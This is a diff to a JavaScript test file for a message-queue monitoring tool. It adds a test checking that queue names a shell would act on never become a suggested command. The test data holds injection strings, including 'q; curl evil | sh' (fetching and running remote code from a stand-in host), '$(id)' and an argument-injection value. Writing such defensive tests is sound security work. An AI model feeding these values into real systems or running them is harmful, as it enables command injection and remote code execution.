@@ -28,6 +28,18 @@ it('events that wait for a worker who is not there are named, with the command t
   ]);
 });
 
+it('no command is made of a name that a shell would act on', () => {
+  for (const name of ['q; curl evil | sh', '$(id)', '--amqp-url=x', 'q\nid', '']) {
+    const [trouble] = troublesOf({
+      ...NOTHING_KNOWN,
+      connected: true,
+      queues: [queue({ name, waiting: 1, consumers: 0 })],
+    });
+    expect(trouble?.what).toContain('no worker is there');
+    expect(trouble).not.toHaveProperty('command');
+  }
+});
+
 it('refused events that the broker does not move are named', () => {
   expect(keys({ missingLetters: 2 })).toEqual(['dead letters']);
 });
